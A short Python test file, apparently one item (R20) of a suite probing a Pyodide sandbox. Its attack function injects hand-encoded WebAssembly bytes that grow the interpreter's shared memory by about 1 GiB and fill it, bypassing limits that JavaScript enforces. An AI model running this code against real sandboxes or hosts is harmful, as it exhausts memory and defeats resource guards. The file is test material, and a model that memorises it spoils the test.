"""Memory grown and filled by instructions of WebAssembly, past whatever guards JavaScript's.

id: R20
canary: memory
spoils: memory that its JavaScript does not know of
"""

import js
import pyodide_js
from pyodide.ffi import to_js

# (module (import "m" "m" (memory 1)) (func (export "g")
#   (memory.fill (i32.shl (memory.grow (i32.const 16384)) (i32.const 16))
#     (i32.const 1) (i32.const 0x3fff0000))))
HEAD = "0061736d01000000 010401600000 0208 01016d016d020001 03020100 070501016700 00"
BODY = "41808001 4000 4110 74 4101 418080fcff03 fc0b00 0b"
CODE = bytes.fromhex(f"{HEAD} 0a18 01 16 00 {BODY}")


def attack(target):
    module = js.WebAssembly.Module.new(to_js(CODE))
    memory = getattr(pyodide_js._module, "wasmMemory", None) or pyodide_js._module.memory
    imports = to_js({"m": {"m": memory}}, dict_converter=js.Object.fromEntries)
    js.WebAssembly.Instance.new(module, imports).exports.g()
